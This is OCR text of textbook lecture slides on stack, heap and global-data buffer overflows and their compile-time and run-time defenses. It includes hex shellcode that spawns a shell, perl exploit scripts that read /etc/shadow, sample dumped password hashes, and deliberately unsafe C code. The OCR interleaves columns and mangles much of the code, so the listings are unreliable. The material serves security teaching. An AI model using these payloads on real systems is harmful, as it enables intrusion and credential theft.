$ whoami$ cat /etc/shadow
cat: /etc/shadow: Permission denied

$ cat attack1
perl -e 'print pack("H*",
"90909090909090909090909090909090" .
"90909090909090909090909090909090" .
"9090eb1a5e31c08846078d1e895e0889" .
"460cb00b89f38d4e088d560ccd80e8e1" .
"ffffff2f62696e2f7368202020202020" .
"202020202020202038f cffbfc0fbffbf0a");
print "whoami\n";
print "cat /etc/shadow\n";'

$ attack1 | buffer4
Enter value for name: Hello your yyy)DA0Apy is e?^1AFF.../bin/sh...

Figure10.9 ExampleStack Overfow Attack

StackOverflow Variants
program can
be: functions
A trusted system Launch a remote shell when connected to

utility Create a reverse shell that connects back to

the hacker

Network service Use local exploits that establish a shell

Flush firewall rules that currently block other
Commonly used
library code Break out of a chroot (restricted execution)
environment, giving full access to the systemBuffer Overflow Defenses
Buffer Two broad
overflows are approaches

Compile-time Run-time

Aim to harden
Aim to detect and
programs to resist
abort attacks in
attacks in new
existing programs
Compile-Time Defenses:
Programming Language

Use a modern Disadvantages

high-level Additional code must be executed at run
time to impose checks
language Flexibility and safety comes at a cost in
Not vulnerable to resource use
buffer overflow Distance from the underlying machine
attacks language and architecture means that
Compiler enforces access to some instructions and hardware
resources is lost
range checks and
permissible Limits their usefulness in writing code,
such as device drivers, that must interact
operations on with such resources
Compile-Time Defenses:
Safe Coding Techniques
C designers placed much more emphasis on space
efficiency and performance considerations than on
type safety
Assumed programmers would exercise due care in writing code
Programmers need to inspect the code and rewrite
any unsafe coding
An example of this is the OpenBSD project
Programmers have audited the existing code base,including the operating system, standard libraries,
and common utilities
This has resulted in what is widely regarded as one of the safest
operating systems in widespread use
int copy_buf(char *to, int pos, char *from, int len)
int i;

for (i=0; i<len; i++) {

to[pos] = from[i];
return pos;

(a) Unsafebytecopy

short read_chunk(FILE fil, char *to)

short len;
fread(&len, 2, 1, fil); ... .................. /* read length of binary data */
fread(to, 1, len, fil); ... ... /* read len bytes of binary data
return len;

(b) Unsafebyteinput

Figure10.10 Examples of UnsafeC Code

Compile-Time Defenses:
Language Extensions/Safe Libraries
Handling dynamically allocated memory is more
problematic because the size information is not
available at compile time
o Requires an extension and the use of library routines
Programs and libraries need to be recompiled
Likely to haveproblems with third-party applications

Concern with C is use of unsafe standard library

o One approach has been to replace these with safer
Libsafe is an example
Library is implemented as a dynamic library arranged to
load before the existing standard libraries
Compile-Time Defenses:
Stack Protection
Add function entry and exit code to check
stack for signs of corruption
Use random canary
o Value needs to be unpredictable
o Should be different on different systems

Stackshield and Return Address Defender

o GCC extensions that include additional function entry and exit code
Function entry writes a copy of the return address to a safe region
of memory
Function exit code checks the return address in the stack frame
against the saved copy
If change is found, aborts the program
Run-Time Defenses:
Executable Address Space Protection
Use virtual
memory support to
make some regions Issues
of memory non-
Requires support from Support for executable
memory management stack code
unit (MMU) Special provisions are
Long existed on needed
SPARC /Solaris systems
Recent on x86
Run-Time Defenses:
Address Space Randomization
Manipulate location of key data
o Stack, heap, global data
o Using random shift for each process
o Large address range on modern systems means
wasting some has negligible impact
Randomize location of heap buffers
Random location of standard library
Run-Time Defenses:
Guard PagesPlace guard pages between critical
regions of memory
o Flagged in MMU as illegal addresses
o Any attempted access aborts process
Further extension places guard pages
Between stack frames and heap
o Cost in execution time to support the large
number of page mappings necessary
Replacement Stack Frame

Variant that overwrites Off-by-one attacks Defenses

buffer and saved frame Coding error that allows one Any stack protectionpointer address more byte to be copied than mechanisms to detect
there is space available modifications to the stack
Saved frame pointer value is frame or return address by
changed to refer to a dummy function exit code
stack frame
Use non-executable stacks
Current function returns to
the replacement dummy Randomization of the stack in
frame memory and of system
Control is transferred to the
shellcode in the overwritten
Return to System Call
Stack overflow variant
o Any stack protection replaces return
mechanisms to detect address with standardmodifications to the stack
frame or return address by
library function
function exit code o Response to non-executable
o Use non-executable stacks stack defenses
o Randomization of the stack in o Attacker constructs suitable
memory and of system parameters on stack above
libraries return address
o Function returns and library
function executes
o Attacker may need exact
buffer address
o Can even chain two library
Heap Overflow
Attack buffer located in heap
o Typically located above program code
o Memory is requested by programs to use in dynamic data structures
(such as linked lists of records)
No return address
o Hence no easy transfer of control
o May have function pointers can exploit
o Or manipulate management data structuresMaking the heap non-executable

Randomizing the allocation of memory
on the heap
/* record type to allocate on heap */
typedef struct chunk {
char inp[64]; ... ... ... .................
... ... ... /* vulnerable input buffer */
void (*process)(char *); ... . /* pointer to function to process inp */
} chunk_t;

void showlen(char *buf)int len;
len = strlen(buf);
printf("buffer5 read %d chars\n", len);
$ cat attack2
int main(int argc, char *argv[]) #!/bin/sh
chunk_t *next; # implement heap overflow against program buffer5
perl -e 'print pack("H*",
setbuf(stdin, NULL); "90909090909090909090909090909090" .
next = malloc(sizeof(chunk_t)); "9090eb1a5e31c08846078d1e895e0889" .
next->process = showlen;
printf("Enter value: "); "460cb00b89f38d4e088d560ccd80e8e1" .
gets(next->inp); "ffffff2f62696e2f7368202020202020" .
next->process(next->inp); "b89704080a");
printf("buffer5 done\n"); print "whoami\n";
print "cat /etc/shadow\n";'
(a) Vulnerableheap overfow C code

$ cat attack2
$ attack2 | buffer5
#!/bin/sh Enter value:
# implement heap overflow against program buffer5 root
perl -e 'print pack("H*",root:$1$4oInmych$T3BVS2E3OyNRGjGUzF4o3/:13347:0:99999:7:::
"90909090909090909090909090909090" .
"9090eb1a5e31c08846078d1e895e0889" .
"460cb00b89f38d4e088d560ccd80e8e1" . ...
"ffffff2f62696e2f7368202020202020" . nobody:*:11453:0:99999:7:::
"b89704080a"); knoppix:$1$p2wziIML$/yVHPQuw5kvlUFJs3b9aj/:13347:0:99999:7:::
print "whoami\n";
print "cat /etc/shadow\n";'

$ attack2 | buffer5 (b) Exampleheap overfow attack

Enter value:
Figure10.11 ExampleHeap Overfow Attack
Global Data Overflow
Defenses Can attack buffer
o Non executable or located in global
random global data data
region o May be located above
o Move function program code
o If has function pointer
and vulnerable buffer
o Guard pages
o Or adjacent process
management tables
o Aim to overwrite
function pointer later
/* global static data - will be targeted for attack */struct chunk {
char inp[64]; ... ... ... .................
... ... ... .............. /* input buffer */
void (*process)(char *); ... .... /* pointer to function to process it */
} chunk;

void showlen(char *buf)

int len;len = strlen(buf);
printf("buffer6 read %d chars\n", len);
$ cat attack3
int main(int argc, char *argv[])
setbuf(stdin, NULL); # implement global data overflow attack against program buffer6
chunk.process = showlen; perl -e 'print pack("H*",
printf("Enter value: "); "90909090909090909090909090909090" .
gets(chunk.inp); "9090eb1a5e31c08846078d1e895e0889" .
"460cb00b89f38d4e088d560ccd80e8e1" .
printf("buffer6 done\n");
} "ffffff2f62696e2f7368202020202020" .
(a) Vulnerableglobal data overfow C code print "whoami\n";
print "cat /etc/shadow\n";'
$ cat attack3
# implement global data overflow attack against program buffer6
$ attack3 | buffer6
perl -e 'print pack("H*", Enter value:
"90909090909090909090909090909090" . root
"9090eb1a5e31c08846078d1e895e0889" . root:$1$4oInmych$T3BVS2E3OyNRGjGUzF4o3/:13347:0:99999:7:::
"460cb00b89f38d4e088d560ccd80e8e1" . daemon:*:11453:0:99999:7:::
"ffffff2f62696e2f7368202020202020" . ....
print "whoami\n"; nobody:*:11453:0:99999:7:::
print "cat /etc/shadow\n";' knoppix:$1$p2wziIML$/yVHPQuw5kvlUFJs3b9aj/:13347:0:99999:7:::
$attack3 | buffer6
Enter value:
root (b) Exampleglobal data overfow attack
.... Figure10.12ExampleGlobal Data Overfow Attack
Stack overflows
o Buffer overflow
basics Other forms of
o Stack buffer overflow attacks
overflows o Replacement
o Shellcode stack frame
o Return to system
Defending against
buffer overflows o Heap overflows
o Compile-time
o Global data area
o Run-time defenses
o Other types of